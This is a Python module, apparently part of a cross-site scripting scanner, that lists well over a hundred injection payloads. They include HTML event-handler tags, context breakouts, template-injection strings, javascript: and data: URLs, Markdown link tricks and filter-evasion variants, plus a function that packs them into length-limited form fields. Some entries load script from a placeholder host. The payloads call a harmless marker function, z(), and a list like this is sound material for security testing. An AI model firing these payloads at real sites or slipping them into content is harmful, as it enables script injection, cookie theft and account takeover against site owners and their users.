"""Short texts that run `z()` wherever a page takes them for more than text.

Not `x()`: pictures have a property of that name, which a handler finds first.

They are short so that several fit into one field: a field of 60 characters holds two
or three at a time.
"""

ELEMENTS = (
    "<script>z()</script>",
    "<script/src=//x.test>",
    "<svg onload=z()>",
    "<svg/onload=z()>",
    "<svg><script>z()</script>",
    "<svg><animate onbegin=z()>",
    "<svg><set onbegin=z()>",
    "<svg><a href=javascript:z()>a",
    "<math href=javascript:z()>a",
    "<img src=x onerror=z()>",
    "<img/src=x/onerror=z()>",
    "<IMG SRC=x ONERROR=z()>",
    "<image src=x onerror=z()>",
    "<img src=x\tonerror=z()>",
    "<img src=x\nonerror=z()>",
    "<img src=`x`onerror=z()>",
    "<img src=x onerror=z`1`>",
    "<img srcset=x onerror=z()>",
    "<body onload=z()>",
    "<body onpageshow=z()>",
    "<iframe onload=z()>",
    "<iframe src=javascript:z()>",
    "<iframe srcdoc=<svg/onload=z()>>",
    "<frameset onload=z()>",
    "<object data=javascript:z()>",
    "<embed src=javascript:z()>",
    "<video><source onerror=z()>",
    "<video src=x onerror=z()>",
    "<audio src=x onerror=z()>",
    "<track onload=z() default>",
    "<input autofocus onfocus=z()>",
    "<select autofocus onfocus=z()>",
    "<textarea autofocus onfocus=z()>",
    "<button autofocus onfocus=z()>",
    "<a autofocus onfocus=z() href=#>",
    "<b tabindex=1 autofocus onfocus=z()>",
    "<details open ontoggle=z()>",
    "<marquee onstart=z()>",
    "<style onload=z()></style>",
    "<link rel=stylesheet onerror=z() href=x>",
    "<meta http-equiv=refresh content=0;url=javascript:z()>",
    "<base href=javascript:z()//>",
    "<form action=javascript:z()><button>a",
    "<button formaction=javascript:z()>a",
    "<input type=image src=x onerror=z()>",
    "<a href=javascript:z()>a</a>",
    "<a href='java\tscript:z()'>a</a>",
    "<a href='&#106;avascript:z()'>a</a>",
    "<a href=data:text/html,<svg/onload=z()>>a",
    "<template><svg onload=z()></template>",
    "<noscript><svg onload=z()></noscript>",
    "<xmp><svg onload=z()></xmp>",
    "<div style=animation:a onanimationend=z()>",
    "<p onmouseover=z()>a</p>",
    "<custom-x onclick=z()>a",
    "<x/onpointerenter=z()>a",
    "<SVG ONLOAD=z()>",
    "<svg onload='z()'>",
    '<svg onload="z()">',
    "<svg onload=z(1)>",
    "<svg onload=z&#40;)>",
    "<svg\fonload=z()>",
    "<svg\nonload=z()>",
    "<svg onload\n=\nz()>",
    "<svg a='>' onload=z()>",
    "<img src onerror=z()>",
    "<img src=# onerror=z()>",
    "<body onfocus=z()>",
    "<input onfocus=z() autofocus>",
    "<b onclick=z()>a</b>",
)
BREAKOUTS = (
    '"><svg onload=z()>',
    "'><svg onload=z()>",
    '" autofocus onfocus=z() a="',
    "' autofocus onfocus=z() a='",
    '" onerror=z() a="',
    " onfocus=z() autofocus ",
    "`><svg onload=z()>",
    "--><svg onload=z()>",
    "--!><svg onload=z()>",
    "]]><svg onload=z()>",
    "?><svg onload=z()>",
    "%><svg onload=z()>",
    "</title><svg onload=z()>",
    "</textarea><svg onload=z()>",
    "</style><svg onload=z()>",
    "</script><svg onload=z()>",
    "</script><script>z()</script>",
    "<!--<script>z()//-->",
    "</option></select><svg onload=z()>",
    "</td></table><svg onload=z()>",
    "</svg><img src=x onerror=z()>",
    "</a><svg onload=z()>",
    "</noscript><svg onload=z()>",
    "</template><svg onload=z()>",
    '"}</script><svg onload=z()>',
    '";z();//',
    "';z();//",
    "\\';z();//",
    "\\u003csvg onload=z()\\u003e",
    "\u2028z()\u2028",
    "${z()}",
    "{{z()}}",
    "{% x %}{{ 7|x }}",
    "{{constructor.constructor('z()')()}}",
    "<%= z() %>",
    "#{z()}",
)
ADDRESSES = (
    "javascript:z()",
    "JaVaScRiPt:z()",
    "java\tscript:z()",
    " javascript:z()",
    "javascript://%0az()",
    "vbscript:z()",
    "data:text/html,<svg onload=z()>",
    "//x.test/x.js",
)
MARKDOWN = (
    "[a](javascript:z())",
    "[a](JAVASCRIPT:z())",
    "[a](&#106;avascript:z())",
    "[a](java%0ascript:z())",
    "[a](data:text/html,x)",
    "[a](vbscript:z())",
    '[a](/ "onclick=z()")',
    "![a](javascript:z())",
    '![a](x "onerror=z()")',
    "![x](x)<img src=x onerror=z()>",
    "<javascript:z()>",
    "[a]: javascript:z()",
    "[a][b]\n\n[b]: javascript:z()",
    "`<svg onload=z()>`",
    "    <svg onload=z()>",
    "```\n</code><svg onload=z()>\n```",
    "&lt;svg onload=z()&gt;",
    "&#60;svg onload=z()&#62;",
    "\uff1csvg onload=z()\uff1e",
    "<scr<script>ipt>z()</script>",
    "<<svg onload=z()>>",
    "<svg onload=z()//",
    "<svg onload=z() a=",
    'https://a.test/"onclick=z()//',
    "https://a.test/'><svg/onload=z()>",
)
PAYLOADS = (*ELEMENTS, *BREAKOUTS, *ADDRESSES, *MARKDOWN)


# A field in which little fits takes the short ones alone, still more than a hundred.
SHORT = tuple(one for one in PAYLOADS if len(one) <= 28)
LITTLE = 120


def chain(length, start, rounds):
    """Return what a field of `length` holds round by round, and which payloads."""
    pool = PAYLOADS if length >= LITTLE else SHORT
    texts, place, held = [], start, set()
    for _ in range(rounds):
        text, first = "", place
        while place - first < len(pool):
            more = pool[place % len(pool)]
            if len(text) + len(more) >= length:
                break
            text, place = f"{text}{more} ", place + 1
            held.add(more)
        texts.append(text)
    return texts, held
